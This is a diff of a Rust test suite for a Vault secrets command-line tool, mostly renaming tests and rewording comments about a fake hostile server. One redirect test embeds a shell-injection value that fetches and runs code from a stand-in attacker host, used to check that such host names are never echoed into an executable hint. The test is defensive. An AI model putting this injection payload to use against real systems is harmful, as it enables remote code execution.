@@ -1,4 +1,5 @@
-//! A server that lies, floods, stalls and echoes: ours, since a real one does none of it.
+//! A server that lies, floods, stalls and echoes. It is our own, since a real one does none of
+//! that.
 
 use std::io::{Read, Write};
 use std::net::{TcpListener, TcpStream};
@@ -12,7 +13,7 @@ use crate::support::{CANARY, Home, Run, run};
 
 type Behaviour = dyn Fn(&mut TcpStream, &str) + Send + Sync;
 
-/// Answers each connection's first request with `behaviour`.
+/// A server that answers the first request of each connection with `behaviour`.
 struct Hostile {
     address: String,
     seen: Arc<AtomicUsize>,
@@ -38,7 +39,7 @@ impl Hostile {
         Self::start(move |stream, _| answer(stream, &status, &body))
     }
 
-    /// For a server that answers in the end, on a machine that may be busy.
+    /// A home with a longer timeout, for a server that does answer but on a busy machine.
     fn patient(&self) -> Home {
         let mut home = self.home();
         home.set("VAULT_CLIENT_TIMEOUT", "30s");
@@ -77,7 +78,7 @@ fn answer(stream: &mut TcpStream, status: &str, body: &[u8]) {
     let _ = stream.write_all(body);
 }
 
-/// Runs the program and gives its peak memory in kilobytes too.
+/// Runs the program and measures its peak memory in kilobytes and its duration.
 fn measured(home: &Home, arguments: &[&str]) -> (Run, u64, Duration) {
     let script = "import resource, subprocess, sys\nstatus = subprocess.run(sys.argv[1:]).returncode\nprint('peak', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\nsys.exit(status)";
     let started = Instant::now();
@@ -226,7 +227,7 @@ fn huge_endless_deep_and_crowded_answers_end_within_time_and_memory() {
 }
 
 #[test]
-fn wrong_types_and_things_that_are_no_vault_are_errors_that_repeat_nothing() {
+fn wrong_types_and_answers_of_other_servers_are_errors_that_repeat_nothing() {
     let bodies: Vec<Vec<u8>> = vec![
         b"".to_vec(),
         b"null".to_vec(),
@@ -305,7 +306,7 @@ fn a_server_that_echoes_token_and_value_leaks_neither() {
 }
 
 #[test]
-fn a_token_follows_no_redirect_to_another_host_and_no_endless_one() {
+fn a_token_follows_no_redirect_to_another_host_and_no_redirect_loop() {
     let thief = Hostile::body("200 OK", "{}");
     let target = thief.address.replace("127.0.0.1", "127.0.0.2");
     let elsewhere = Hostile::start(move |stream, _| {
@@ -324,7 +325,7 @@ fn a_token_follows_no_redirect_to_another_host_and_no_endless_one() {
             .stderr
             .contains("CLAUDE_VAULT_TRUSTED_HOSTS=127.0.0.2:")
     );
-    // Nor is a host put into a hint that a shell would run something of.
+    // A host is not put into a hint that a shell would execute.
     let hostile = Hostile::start(move |stream, _| {
         let location = "https://x;{curl,evil.example,-ox};{sh,x};$(sh)/";
         drop(write!(
@@ -362,7 +363,7 @@ fn a_token_follows_no_redirect_to_another_host_and_no_endless_one() {
     }
 }
 
-/// A node that gives a secret to whoever brings the token, and a standby that redirects to it.
+/// A node that returns a secret to any request with the token, and a standby that redirects to it.
 fn node_and_standby() -> (Hostile, Hostile) {
     let node = Hostile::start(|stream, request| {
         let ours = request.to_lowercase().contains("x-vault-token: hvs.");
@@ -385,7 +386,7 @@ fn node_and_standby() -> (Hostile, Hostile) {
 }
 
 #[test]
-fn a_redirect_to_a_trusted_node_is_followed_with_the_token() {
+fn a_redirect_to_a_trusted_host_is_followed_with_the_token() {
     let (node, standby) = node_and_standby();
     let port = node.address.rsplit(':').next().unwrap();
     for trusted in [
@@ -413,7 +414,7 @@ fn another_port_of_the_same_host_is_another_origin_and_gets_no_request() {
         .home()
         .cv(["set", "plex", "A=1", "--no-confirm"])
         .exits(7);
-    // Nor does a login's nonce go there, which travels without a token.
+    // A login's nonce, which is sent without a token, does not go there either.
     let mut home = standby.home();
     home.set("VAULT_TOKEN", "");
     home.cv(["login", "--no-browser", "--timeout", "3"])
@@ -427,7 +428,7 @@ fn another_port_of_the_same_host_is_another_origin_and_gets_no_request() {
 }
 
 #[test]
-fn cut_connections_are_vault_failing() {
+fn a_cut_connection_is_reported_as_a_failure_of_vault() {
     for text in [
         "",
         "HTTP/1.1",
@@ -442,14 +443,15 @@ fn cut_connections_are_vault_failing() {
 }
 
 #[test]
-fn a_write_whose_answer_is_lost_is_looked_for_and_not_repeated_blindly() {
-    // The write is applied, then the connection is cut; the version that follows is ours.
+fn a_write_whose_answer_is_lost_is_checked_before_it_is_repeated() {
+    // The server applies the write and then cuts the connection. The program must recognise the
+    // next version as its own.
     let written = Arc::new(std::sync::Mutex::new(None::<String>));
     let kept = Arc::clone(&written);
     let hostile = Hostile::start(move |stream, request| {
         if request.starts_with("PUT") {
             *kept.lock().unwrap() = Some(request.split("\r\n\r\n").nth(1).unwrap().to_owned());
-            return; // cut
+            return; // cut the connection
         }
         if request.contains("sys/leader") {
             return answer(stream, "200 OK", br#"{"ha_enabled":false}"#);
@@ -517,13 +519,13 @@ fn a_proxy_is_used_for_https_unless_the_host_is_excepted() {
         .exits(7)
         .says("the host name is not known");
     home.set("VAULT_ADDR", "https://127.0.0.1:1");
-    home.cv(["list"]).exits(7).says("connection refused"); // this machine is never behind the proxy
+    home.cv(["list"]).exits(7).says("connection refused"); // this machine is never reached through the proxy
     assert_eq!(proxy.seen.load(Ordering::SeqCst), before);
 }
 
-/// As a real one does for a moment after a KV mount was made; here it is made to last.
+/// A real server answers this for a moment after a KV mount was created. Here it is made to last.
 #[test]
-fn a_mount_that_is_getting_ready_is_waited_for() {
+fn the_program_waits_for_a_mount_that_is_being_upgraded() {
     const UPGRADING: &[u8] = b"{\"errors\":[\"Upgrading from non-versioned to versioned data. This backend will be unavailable for a brief period.\"]}";
     let calls = AtomicUsize::new(0);
     let server = Hostile::start(
@@ -533,7 +535,7 @@ fn a_mount_that_is_getting_ready_is_waited_for() {
         },
     );
     assert_eq!(server.patient().cv(["list"]).exits(0).stdout, "plex\n");
-    // And no longer than the client's timeout.
+    // The wait is limited by the client's timeout.
     let server = Hostile::body("400 Bad Request", UPGRADING);
     let started = Instant::now();
     server
